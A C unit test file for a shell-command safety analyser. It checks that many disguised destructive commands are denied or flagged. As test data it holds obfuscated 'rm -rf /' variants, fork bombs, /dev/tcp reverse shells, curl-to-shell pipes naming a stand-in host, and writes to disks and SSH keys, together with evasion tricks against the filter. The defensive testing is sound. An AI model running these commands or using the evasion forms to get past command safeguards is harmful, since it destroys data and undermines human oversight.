/* SPDX-License-Identifier: MIT */
#include "config.h"

/*
 * test-analyse - one test per construct the analyser must see through,
 * plus policy loading errors and a smoke test that feeds thousands of
 * random and mutated inputs (the analyser must never crash).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/safety/common.h"
#include "core/safety/internal.h"

static struct hs_policy *pol;

static enum hs_verdict
verdict(const char *cmd)
{
	struct hs_analysis an;

	assert_int_equal(hs_analyse(pol, cmd, HS_CONTEXT_HOST, &an), 0);
	return an.verdict;
}

static int
matches(const char *cmd, const char *rule)
{
	struct hs_analysis an;

	hs_analyse(pol, cmd, HS_CONTEXT_HOST, &an);
	return test_has_rule(&an, rule);
}

#define DENY(c) assert_int_equal(verdict(c), HS_VERDICT_DENY)
#define ASK(c) assert_int_equal(verdict(c), HS_VERDICT_ASK)
#define ALLOW(c) assert_int_equal(verdict(c), HS_VERDICT_ALLOW)

static void
test_quotes_and_escapes(void **s)
{
	(void)s;
	DENY("rm -rf /");
	DENY("\\rm -rf /");
	DENY("r''m -rf /");
	DENY("\"rm\" -rf /");
	DENY("'r'\"m\" -rf '/'");
	DENY("$'\\x72m' -rf /");
	DENY("$'\\162m' -rf /");
	DENY("$'\\u0072m' -rf /");
	DENY("/usr/bin/rm -rf /");
	DENY("r\\\nm -rf /");
	ALLOW("echo 'rm -rf /'");
	ALLOW("echo \"rm -rf /\" # rm -rf /");
	ASK("echo 'unterminated");
}

static void
test_brace_expansion(void **s)
{
	(void)s;
	DENY("{rm,-rf,/}");
	DENY("{rm,-rf,/usr}");
	ALLOW("echo {a,b,c}");
	ALLOW("for i in {1..5}; do echo $i; done");
	ALLOW("find . -name x -exec echo {} \\;");
}

static void
test_substitutions(void **s)
{
	(void)s;
	DENY("echo $(rm -rf /)");
	DENY("echo `rm -rf /`");
	DENY("x=$(rm -rf /)");
	DENY("cat <(rm -rf /)");
	DENY("tee >(rm -rf /) < /dev/null");
	DENY("echo \"$(echo $(rm -rf /))\"");
	DENY("echo ${x:-$(rm -rf /)}");
	ASK("$(echo rm) -rf /");
	ASK("`echo rm` -rf /");
	ASK("\"${cmd}\" -rf /");
	ASK("$X args");
	ALLOW("echo $(date) $((1+2))");
	ALLOW("$HOME/bin/tool --version");
}

static void
test_heredocs(void **s)
{
	(void)s;
	DENY("cat <<EOF\n$(rm -rf /)\nEOF");
	ALLOW("cat <<'EOF'\n$(rm -rf /)\nEOF");
	ALLOW("cat <<-EOF\n\trm -rf /\n\tEOF");
	DENY("bash <<EOF\nrm -rf /\nEOF");
	DENY("sh <<< 'rm -rf /'");
	DENY("cat <<EOF | sh\nrm -rf /\nEOF");
	ALLOW("cat > f <<EOF\nrm -rf /\nEOF\necho done");
	DENY("cat > f <<EOF\nhello\nEOF\nrm -rf /");
}

static void
test_operators_and_compounds(void **s)
{
	(void)s;
	DENY("true; rm -rf /");
	DENY("false || rm -rf /");
	DENY("true && rm -rf /");
	DENY("sleep 1 & rm -rf /");
	DENY("ls | rm -rf /");
	DENY("(rm -rf /)");
	DENY("{ rm -rf /; }");
	DENY("if true; then rm -rf /; fi");
	DENY("if false; then :; elif true; then :; else rm -rf /; fi");
	DENY("while true; do rm -rf /; done");
	DENY("for x in a b; do rm -rf /; done");
	DENY("for ((i=0;i<1;i++)); do rm -rf /; done");
	DENY("case a in a) rm -rf /;; esac");
	DENY("[[ -d / ]] && rm -rf /");
	DENY("! rm -rf /");
	DENY("time rm -rf /");
	ALLOW("if [ -f x ]; then echo y; else echo z; fi");
}

static void
test_functions_and_aliases(void **s)
{
	(void)s;
	DENY("f(){ rm -rf /; }; f");
	DENY("function f { rm -rf /; }; f");
	/* Analysed where defined: a dangerous body counts even if never called. */
	DENY("f(){ rm -rf /; }");
	DENY("alias x='rm -rf /'; x");
	DENY("alias l='ls -la'; l /; rm -rf /");
	ALLOW("f(){ echo hi; }; f");
	ALLOW("alias ll='ls -la'; ll");
	DENY(":(){ :|:& };:");
	DENY("b(){ b|b& };b");
	assert_true(matches("x() { x | x & }; x", "sys.fork-bomb"));
}

static void
test_assignments_and_redirections(void **s)
{
	(void)s;
	ASK("DOCKER_HOST=tcp://x docker ps");
	ASK("export DOCKER_HOST=tcp://x");
	DENY("echo x > /dev/sda");
	DENY("echo x >> /etc/hs/hs.conf");
	DENY("echo x >| /etc/hs/hs.conf");
	DENY("echo x &> /etc/hs/hs.conf");
	DENY("echo x 2> /etc/hs/hs.conf");
	DENY("echo x >& /etc/hs/hs.conf");
	ASK("echo x > ~/.bashrc");
	ASK("echo x >> $HOME/.ssh/authorized_keys");
	ASK("{ echo x; } >> /etc/passwd");
	ALLOW("make 2>&1 | tee log");
	ALLOW("echo x > /dev/null 2>&1");
	DENY("bash -i >& /dev/tcp/1.2.3.4/1 0>&1");
	DENY("exec 3<>/dev/tcp/1.2.3.4/80");
}

static void
test_wrappers(void **s)
{
	(void)s;
	DENY("sudo rm -rf /");
	DENY("sudo -u root -E -- rm -rf /");
	DENY("sudo -g wheel rm -rf /");
	DENY("doas rm -rf /");
	DENY("env -i -u B A=1 rm -rf /");
	DENY("env -S 'rm -rf /'");
	DENY("timeout -s KILL 10 rm -rf /");
	DENY("nice -n 5 ionice -c 3 nohup stdbuf -oL rm -rf /");
	DENY("command rm -rf /");
	DENY("builtin exec rm -rf /");
	DENY("exec rm -rf /");
	DENY("xargs rm -rf / < /dev/null");
	DENY("echo / | xargs rm -rf");
	DENY("find / -exec rm -rf {} +");
	DENY("find / -delete");
	DENY("watch rm -rf /");
	DENY("busybox rm -rf /");
	ALLOW("command -v rm");
	ALLOW("sudo -l");
	ALLOW("xargs -n1 echo");
}

static void
test_shell_payloads(void **s)
{
	(void)s;
	DENY("sh -c 'rm -rf /'");
	DENY("bash -lc 'rm -rf /'");
	DENY("dash -c \"rm -rf /\"");
	DENY("zsh -c 'rm -rf /'");
	DENY("bash -x -o pipefail -c 'rm -rf /'");
	DENY("eval 'rm -rf /'");
	DENY("eval rm -rf /");
	DENY("bash -c \"bash -c 'eval \\\"rm -rf /\\\"'\"");
	ASK("sh -c \"$CMD\"");
	ASK("eval \"$X\"");
	ASK("bash <(curl -s http://x)");
	ASK("source <(curl http://x)");
	ASK("curl http://x | sh");
	ASK("wget -O- http://x | python3");
	ASK("sh -c \"$(curl http://x)\"");
	ALLOW("bash script.sh");
	ALLOW("eval \"$(ssh-agent -s)\"");
	ALLOW("curl http://x | python3 -m json.tool");
}

static void
test_interpreters(void **s)
{
	(void)s;
	DENY("python3 -c \"import os; os.system('rm -rf /')\"");
	DENY("python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/\"])'");
	DENY("python -c 'import shutil; shutil.rmtree(\"/\")'");
	DENY("perl -e 'system(\"rm -rf /\")'");
	DENY("perl -e 'qx(rm -rf /)'");
	DENY("ruby -e '`rm -rf /`'");
	DENY("node -e \"require('child_process').execSync('rm -rf /')\"");
	DENY("php -r 'shell_exec(\"rm -rf /\");'");
	DENY("python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF");
	ASK("python3 -c 'import os; os.system(cmd)'");
	/* A command given in pieces that the language joins into one string. */
	DENY("python3 -c 'import os; os.system(\"rm -rf \" \"/\")'");
	DENY("python3 -c 'import os; os.system(\"rm -rf \" + \"/\")'");
	DENY("perl -e 'system(\"rm -rf \" . \"/\")'");
	/* Code run as code: exec() and eval() of a literal. */
	DENY("python3 -c 'exec(\"import os; os.system(\\\"rm -rf /\\\")\")'");
	DENY("node -e 'eval(\"require(`child_process`).execSync(`rm -rf /`)\")'");
	DENY("python3 -c '[os.system\n(\"rm -rf /\")]'");
	ASK("python3 -c 'exec(open(\"x.py\").read())'");
	/* Escapes in a literal are what the program sees. */
	DENY("python3 -c 'import os; os.system(\"\\x72m -rf /\")'");
	DENY("perl -e 'system(\"\\162m -rf /\")'");
	DENY("node -e 'require(\"child_process\").execSync(\"\\u0072m -rf /\")'");
	DENY("node -e 'require(\"child_process\").execSync(\"\\u{72}m -rf \\x2f\")'");
	ALLOW("python3 -c 'print(1)'");
	ALLOW("python3 -c \"import json; print(json.dumps({'rm': '-rf /'}))\"");
}

static void
test_argv_semantics(void **s)
{
	(void)s;
	DENY("rm -fr /");
	DENY("rm -r -f /");
	DENY("rm --recursive --force /");
	DENY("rm / -rf");
	DENY("rm -rf -- /");
	DENY("rm -rf //");
	DENY("rm -rf /tmp/../");
	DENY("rm -rf /*");
	ALLOW("rm -f /");
	ALLOW("rm -rf -- ./-rf");
	ASK("git push -f");
	ASK("git push origin main --force");
	ALLOW("git push origin main");
	ALLOW("git commit -m 'git push --force'");
	ASK("git branch -D x");
	ALLOW("git branch -d x");
	DENY("kill -9 -1"); /* hardline on the host (sys.kill-all) */
	ALLOW("kill -9 1234");
}

/* Build "PREFIX" + N x "WORD " + "SUFFIX" and return its verdict. */
static enum hs_verdict
padded(const char *prefix, const char *word, int n, const char *suffix)
{
	size_t len = strlen(prefix) + (size_t)n * strlen(word) + strlen(suffix) + 1;
	char *cmd = malloc(len), *p;
	enum hs_verdict v;
	int i;

	assert_non_null(cmd);
	p = cmd + sprintf(cmd, "%s", prefix);
	for (i = 0; i < n; i++)
		p += sprintf(p, "%s", word);
	sprintf(p, "%s", suffix);
	v = verdict(cmd);
	free(cmd);
	return v;
}

/*
 * Words past the parser's bounds used to be dropped unseen, so padding
 * hid a flag or a target: "rm -v (x70) -rf /" was allowed.  A command
 * that does not fit is opaque now; many plain words still pass.
 */
static void
test_padding(void **s)
{
	(void)s;
	assert_int_not_equal(padded("rm ", "-v ", 300, "-rf /"), HS_VERDICT_ALLOW);
	assert_int_not_equal(padded("rm -rf ", "x ", 600, "/"), HS_VERDICT_ALLOW);
	assert_int_not_equal(padded("cat x ", "> /dev/null ", 700, "> /dev/sda"), HS_VERDICT_ALLOW);
	assert_int_not_equal(padded("docker ", "--opt val ", 300, "-H ssh://prod ps"), HS_VERDICT_ALLOW);
	assert_int_equal(padded("rm -f ", "build/f.o ", 400, ""), HS_VERDICT_ALLOW);
	assert_int_equal(padded("ls ", "-l ", 100, "."), HS_VERDICT_ALLOW);
}

static void
test_sandbox_context(void **s)
{
	struct hs_analysis an;

	(void)s;
	hs_analyse(pol, "git push --force", HS_CONTEXT_SANDBOX, &an);
	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
	hs_analyse(pol, "$X -rf /", HS_CONTEXT_SANDBOX, &an);
	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
	assert_true(an.opaque);
	hs_analyse(pol, "$X -rf /", HS_CONTEXT_HOST, &an);
	assert_int_equal(an.verdict, HS_VERDICT_ASK);
	assert_string_equal(an.findings[0].rule_id, "opaque");
	hs_analyse(pol, "rm -rf /", HS_CONTEXT_SANDBOX, &an);
	assert_int_equal(an.verdict, HS_VERDICT_DENY);
	hs_analyse(pol, "echo x > /etc/hs/hs.conf", HS_CONTEXT_SANDBOX, &an);
	assert_int_equal(an.verdict, HS_VERDICT_DENY);
}

static void
test_findings(void **s)
{
	struct hs_analysis an;

	(void)s;
	hs_analyse(pol, "sudo rm -rf /", HS_CONTEXT_HOST, &an);
	assert_int_equal(an.verdict, HS_VERDICT_DENY);
	assert_true(test_has_rule(&an, "fs.rm-root"));
	assert_int_equal(an.findings[0].hardline, 1);
	assert_string_equal(an.findings[0].argv_norm, "rm -rf /");
	hs_analyse(pol, "psql -h 127.0.0.1 -p 1 -c \"DROP DATABASE hsacc_none\"", HS_CONTEXT_HOST, &an);
	assert_int_equal(an.verdict, HS_VERDICT_ASK);
	assert_string_equal(an.findings[0].rule_id, "db.sql-destructive-psql");
	assert_int_equal(an.findings[0].hardline, 0);
	hs_analyse(pol, "mkfs.ext4 /dev/sdz9", HS_CONTEXT_HOST, &an);
	assert_int_equal(an.verdict, HS_VERDICT_DENY);
	hs_analyse(pol, "echo \"mkfs.ext4 /dev/sda\"", HS_CONTEXT_HOST, &an);
	assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
	assert_int_equal(an.n_findings, 0);
}

static void
test_protected_paths_from_core(void **s)
{
	(void)s;
	/* test_load_policy passes this path as protected. */
	DENY("echo x >> /home/user/.local/state/hs/allow.list");
	DENY("rm ~/.local/state/hs/allow.list");
}

static void
write_file(const char *path, const char *text, mode_t mode)
{
	FILE *fp = fopen(path, "w");

	assert_non_null(fp);
	fputs(text, fp);
	fclose(fp);
	chmod(path, mode);
}

/* One reader, getopt_long's rules: clusters, attached operands, abbreviations, "--". */
static void
test_option_reader(void **s)
{
	const struct hs_progdecl *d = hs_policy_decl(pol, "sudo");
	const char *av1[] = { "sudo", "--us", "root", "-iuadmin", "--p", "--", "-x" };
	struct hs_optstate st = { .i = 1 };
	struct hs_opt o;

	(void)s;
	assert_non_null(d);
	assert_true(d->complete);
	assert_int_equal(hs_opt_next(d, av1, 7, &st, &o), 1);
	assert_int_equal((int)o.len, 4);
	assert_memory_equal(o.name, "user", 4);
	assert_string_equal(o.value, "root");
	assert_int_equal(hs_opt_next(d, av1, 7, &st, &o), 1);
	assert_int_equal(o.name[0], 'i');
	assert_int_equal(o.kind, HS_OK_FLAG);
	assert_int_equal(hs_opt_next(d, av1, 7, &st, &o), 1);
	assert_int_equal(o.name[0], 'u');
	assert_string_equal(o.value, "admin");
	/* --p: --preserve-env, --prompt, --preserve-groups: ambiguous, so unknown. */
	assert_int_equal(hs_opt_next(d, av1, 7, &st, &o), 1);
	assert_int_equal(o.kind, HS_OK_UNKNOWN);
	assert_int_equal(hs_opt_next(d, av1, 7, &st, &o), 0);
	assert_true(st.dashdash);
	assert_int_equal(st.i, 6);
	/* git -c: a code option whose KEY=PREFIX conditions say which operands are code. */
	d = hs_policy_decl(pol, "git");
	{
		const char *av2[] = { "git", "-c", "alias.x=!rm -rf /", "-ccore.pager=less", "-c", "user.name=x" };

		st = (struct hs_optstate){ .i = 1 };
		assert_int_equal(hs_opt_next(d, av2, 6, &st, &o), 1);
		assert_string_equal(hs_opt_code(&o), "rm -rf /");
		assert_int_equal(hs_opt_next(d, av2, 6, &st, &o), 1);
		assert_string_equal(hs_opt_code(&o), "less");
		assert_int_equal(hs_opt_next(d, av2, 6, &st, &o), 1);
		assert_null(hs_opt_code(&o));
	}
}

/* issue 19: every spelling of a wrapper's options, and the carriers. */
static void
test_wrapper_grammars(void **s)
{
	(void)s;
	DENY("su --command=\"rm -rf /\" root");
	DENY("su root -- -c 'rm -rf /'");
	DENY("su -c ls -c 'rm -rf /' root");
	DENY("runuser --session-command=\"rm -rf /\" root");
	DENY("runuser -u root -- rm -rf /");
	DENY("env --s='rm -rf /'");
	DENY("env --split 'rm -rf /'");
	DENY("env -S 'rm\\_-rf\\_/'");
	DENY("env -S'-i rm -rf /'");
	DENY("env A-B=1 rm -rf /");
	DENY("env - rm -rf /");
	DENY("sudo --us root rm -rf /etc");
	DENY("sudo --chd /tmp rm -rf /");
	DENY("sudo -iu root rm -rf /");
	ASK("sudo -X rm -rf /");
	ASK("env --bogus rm -rf /");
	DENY("parallel -- rm -rf / ::: x");
	DENY("parallel 'rm -rf {}' ::: /");
	DENY("man -P \"rm -rf /\" ls");
	DENY("ag --pager \"rm -rf /\" x");
	DENY("rg --pre 'rm -rf /' x");
	DENY("sort --compress-program='rm -rf /' x");
	DENY("tar --checkpoint-action=exec='rm -rf /' -cf a x");
	DENY("tar --use-compress-prog='rm -rf /' -xf a");
	DENY("git -c alias.x='!rm -rf /' x");
	DENY("kubectl exec pod -- rm -rf /");
	DENY("docker exec -it c rm -rf /");
	DENY("flock /tmp/l -c 'rm -rf /'");
	DENY("script -c 'rm -rf /' /dev/null");
	DENY("watch -x rm -rf /");
	DENY("at now <<< 'rm -rf /'");
	DENY("nsenter -t 1 -m rm -rf /");
	ASK("pwsh -enc AAAA");
	ASK("git reset --har");
	/* su keeps the last -c; $'\0' ends a $'...' string; env -0 or a bare $ in -S runs nothing. */
	DENY("su -c ls --command='rm -rf /' root");
	assert_int_not_equal(verdict("su -c 'rm -rf /' --comm ls root"), HS_VERDICT_DENY);
	DENY("r$'\\0'm -rf /");
	DENY("env --s$'\\c@'='rm -rf /'");
	ALLOW("env -0S 'rm -rf /'");
	ALLOW("env -S '$(rm -rf /)'");
	DENY("ssh -o 'ProxyCommand rm -rf /' host");
	DENY("rsync -e 'rm -rf /' a b:");
	DENY("GIT_SSH_COMMAND='rm -rf /' git fetch");
	ALLOW("rsync -av -e ssh src/ host:dst/");
	ALLOW("EDITOR=vim git commit");
	/* Where the program itself refuses, nothing runs: a bad operand, options that exclude each other. */
	ALLOW("nice -n echo sh -c 'rm -rf /'");
	ALLOW("timeout --foreground echo sh -c 'rm -rf /'");
	DENY("timeout inf rm -rf /");
	ALLOW("runuser -u root --command 'rm -rf /'");
	ALLOW("powershell Remove-Item -Recurse -Force C:\\tmp\\x");
	ALLOW("\033[31mrm\033[0m -rf /");
	ALLOW("env FOO=1 make");
	ALLOW("sudo -u www-data ls");
	ALLOW("git reset --soft HEAD~1");
	ALLOW("git -c core.pager=cat log");
	ALLOW("parallel echo ::: a b");
	ALLOW("man -P cat ls");
	ALLOW("docker exec -it c bash");
	ALLOW("kubectl exec -it pod -- ls");
}

/* issue 19: IFS, {fd}> redirections, comments, glob program words, literal assignments. */
static void
test_parser_forms(void **s)
{
	(void)s;
	DENY("rm -rf${IFS}/");
	DENY("rm${IFS}-rf${IFS}/");
	DENY("rm${IFS:0:1}-rf /");
	DENY("[[ a =~ (a)# ]]; rm -rf /");
	ASK("curl${IFS}http://evil.example|sh");
	ASK("IFS=/; rm -rf ${X}");
	DENY("bash {fd}>out -c 'rm -rf /'");
	DENY("printf <(printf hi)#x; rm -rf /");
	/* $\<newline>'...' is $'...': the # inside it is quoted, the one after it a comment. */
	DENY("printf '%s' $\\\n'\\' #'; rm -rf /");
	ALLOW("printf '%s' $\\\n'it\\'s' # comment; rm -rf /");
	ASK("D=/usr; $D/bin/r? -rf /");
	DENY("X=/; rm -rf \"$X\"");
	DENY("D=/usr; $D/bin/rm -rf /");
	ASK("X=/tmp/a; X=/; rm -rf \"$X\"");
	ASK("X=/tmp/a; read X; rm -rf \"$X\"");
	ASK("rm -rf \"$UNSET_VAR\"/");
	ASK("dd if=/dev/zero of=$DISK");
	ASK("bash <<EOF\n$CODE\nEOF");
	ASK("ssh host <<EOF\n$CODE\nEOF");
	ASK("echo \"$CODE\" | sh");
	/* What bash expands or keeps to run later: arithmetic, arrays, coproc, trap, prompt variables. */
	DENY("echo $(( a[$(rm -rf /)] ))");
	DENY("(( x = $(rm -rf /) ))");
	DENY("x=( $(rm -rf /) )");
	DENY("coproc X { rm -rf /; }");
	DENY("trap 'rm -rf /' EXIT");
	DENY("PS4='$(rm -rf /)' bash -xc true");
	DENY("export PROMPT_COMMAND='rm -rf /'");
	ALLOW("for ((i=0;i<3;i++)); do echo $i; done");
	ALLOW("trap 'rm -f /tmp/x.lock' EXIT");
	ALLOW("X=/tmp/build; rm -rf \"$X\"");
	ALLOW("echo \"a${IFS}b\"");
	ALLOW("[ -f x ] && echo y");
	ALLOW("make -j$(nproc)");
	ALLOW("echo hi | bash");
	ALLOW("ssh host <<EOF\nuptime\nEOF");
}

static void
test_policy_errors(void **s)
{
	char dir[] = "/tmp/hs-policy-err.XXXXXX", path[256], err[512];
	const char *d = dir;
	struct hs_policy *p = NULL;

	(void)s;
	assert_non_null(mkdtemp(dir));
	chmod(dir, 0755);
	snprintf(path, sizeof(path), "%s/a.rules", dir);
	write_file(path, "rules = ( { id = \"x\"; severity = \"bad\"; scope = \"host\"; description = \"d\"; match = { program = \"x\"; }; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "severity"));
	write_file(path, "rules = ( { id = \"x\"; severity = \"dangerous\"; scope = \"host\"; description = \"d\"; match = { progam = \"x\"; }; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "progam"));
	write_file(path, "rules = ( { id = \"x\"; severity = \"dangerous\"; scope = \"host\"; description = \"d\"; match = { program = \"x\"; }; } );", 0664);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "writable"));
	assert_non_null(strstr(err, "a.rules"));
	chmod(path, 0644);
	/* A later file with the same id overrides; disabled removes. */
	snprintf(path, sizeof(path), "%s/b.rules", dir);
	write_file(path, "rules = ( { id = \"x\"; severity = \"hardline\"; scope = \"host\"; description = \"d2\"; match = { program = \"x\"; }; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), 0);
	assert_int_equal(hs_policy_rule_count(p), 1);
	{
		struct hs_analysis an;

		hs_analyse(p, "x", HS_CONTEXT_HOST, &an);
		assert_int_equal(an.verdict, HS_VERDICT_DENY);
	}
	hs_policy_free(p);
	write_file(path, "rules = ( { id = \"x\"; disabled = true; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), 0);
	assert_int_equal(hs_policy_rule_count(p), 0);
	hs_policy_free(p);
	/* A grammar entry that is not -x, -x:, -x::, --name... or a tag, and an unknown "runs". */
	write_file(path, "programs = ( { names = [ \"w\" ]; options = [ \"-xy\" ]; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "bad option '-xy'"));
	write_file(path, "programs = ( { names = [ \"w\" ]; options = [ \"--run: sometimes\" ]; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "bad option"));
	write_file(path, "programs = ( { names = [ \"w\" ]; runs = \"maybe\"; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "'runs'"));
	/* A wrapper declared in data is followed: its operand, then the command. */
	write_file(path, "programs = ( { names = [ \"w\" ]; runs = \"command\"; operands = 1; options = [ \"-q\", \"--run: code\" ]; } );", 0644);
	assert_int_equal(hs_policy_load(&p, &d, 1, NULL, err, sizeof(err)), 0);
	{
		struct hs_analysis an;

		/* a.rules still holds the dangerous rule "x". */
		hs_analyse(p, "w -q 5 x", HS_CONTEXT_HOST, &an);
		assert_true(test_has_rule(&an, "x"));
		assert_false(an.opaque);
		hs_analyse(p, "w --ru=x", HS_CONTEXT_HOST, &an);
		assert_true(test_has_rule(&an, "x"));
		hs_analyse(p, "w -z 5 x", HS_CONTEXT_HOST, &an);
		assert_int_equal(an.verdict, HS_VERDICT_ASK);
		assert_false(test_has_rule(&an, "x"));
		assert_true(an.opaque);
		hs_analyse(p, "w -q 5 y", HS_CONTEXT_HOST, &an);
		assert_int_equal(an.verdict, HS_VERDICT_ALLOW);
	}
	hs_policy_free(p);
	unlink(path);
	snprintf(path, sizeof(path), "%s/a.rules", dir);
	unlink(path);
	rmdir(dir);
}

static const char *const seeds[] = {
	"rm -rf /", "a=$(b `c` \"$(d)\") e <<EOF\n$(f)\nEOF", "for i in {a,b}; do case $i in a) x;; esac; done",
	":(){ :|:& };:", "sh -c 'eval \"$(curl x)\"' | bash <(wget y)", "python3 -c \"import os; os.system('ls')\"",
	"f() { g() { h; }; }; alias q='r $(s)'; q", "[[ $x == y && -f z ]] || ((i++))", "echo ${a:-${b:+$(c)}} $'\\x41' {1..3}",
	"find / -exec sh -c 'x' {} \\; -delete | xargs -I{} env A=1 sudo -u r nice {}",
};

static void
test_fuzz_smoke(void **s)
{
	static const char alphabet[] = "abrm -/$(){}[]<>|&;'\"`\\\n\t=~*?!#,.:012EOF";
	struct hs_analysis an;
	char buf[512];
	unsigned seed = 12345;
	size_t n, k, len, j;

	(void)s;
	for (n = 0; n < 20000; n++) {
		seed = seed * 1103515245u + 12345u;
		if (n % 2) {
			/* Random bytes from the shell's special characters. */
			len = (seed >> 16) % (sizeof(buf) - 1);
			for (j = 0; j < len; j++) {
				seed = seed * 1103515245u + 12345u;
				buf[j] = alphabet[(seed >> 16) % (sizeof(alphabet) - 1)];
			}
			buf[len] = '\0';
		} else {
			/* A seed with bytes flipped, dropped or duplicated. */
			const char *sd = seeds[(seed >> 16) % (sizeof(seeds) / sizeof(seeds[0]))];

			snprintf(buf, sizeof(buf), "%s%s", sd, (seed & 1) ? sd : "");
			len = strlen(buf);
			for (k = 0; k < 4 && len; k++) {
				seed = seed * 1103515245u + 12345u;
				j = (seed >> 16) % len;
				if (seed & 0x100)
					buf[j] = (char)(seed >> 8);
				else
					memmove(buf + j, buf + j + 1, len - j);
				len = strlen(buf);
			}
		}
		assert_int_equal(hs_analyse(pol, buf, HS_CONTEXT_HOST, &an), 0);
		assert_true(an.verdict <= HS_VERDICT_DENY);
		assert_true(an.n_findings <= HS_MAX_FINDINGS);
	}
	/* Deep nesting must be refused, not recursed into. */
	{
		char *deep = malloc(200001);

		/* "( ( ( ... ) ) )": subshells; "((" alone would be arithmetic. */
		for (j = 0; j < 100000; j++) {
			deep[j] = j % 2 ? ' ' : '(';
			deep[200000 - 1 - j] = j % 2 ? ' ' : ')';
		}
		deep[200000] = '\0';
		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
		assert_int_equal(an.verdict, HS_VERDICT_ASK);
		memset(deep, 0, 200001);
		for (j = 0; j + 2 < 200000; j += 2)
			memcpy(deep + j, "$(", 2);
		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
		assert_int_equal(an.verdict, HS_VERDICT_ASK);
		for (j = 0; j < 200000; j++)
			deep[j] = j % 2 ? ',' : '{';
		hs_analyse(pol, deep, HS_CONTEXT_HOST, &an);
		free(deep);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quotes_and_escapes),
		cmocka_unit_test(test_brace_expansion),
		cmocka_unit_test(test_substitutions),
		cmocka_unit_test(test_heredocs),
		cmocka_unit_test(test_operators_and_compounds),
		cmocka_unit_test(test_functions_and_aliases),
		cmocka_unit_test(test_assignments_and_redirections),
		cmocka_unit_test(test_wrappers),
		cmocka_unit_test(test_option_reader),
		cmocka_unit_test(test_wrapper_grammars),
		cmocka_unit_test(test_parser_forms),
		cmocka_unit_test(test_shell_payloads),
		cmocka_unit_test(test_interpreters),
		cmocka_unit_test(test_argv_semantics),
		cmocka_unit_test(test_padding),
		cmocka_unit_test(test_sandbox_context),
		cmocka_unit_test(test_findings),
		cmocka_unit_test(test_protected_paths_from_core),
		cmocka_unit_test(test_policy_errors),
		cmocka_unit_test(test_fuzz_smoke),
	};
	int rc;

	pol = test_load_policy();
	if (!pol)
		return 1;
	rc = cmocka_run_group_tests(tests, NULL, NULL);
	hs_policy_free(pol);
	test_remove_policy();
	return rc;
}
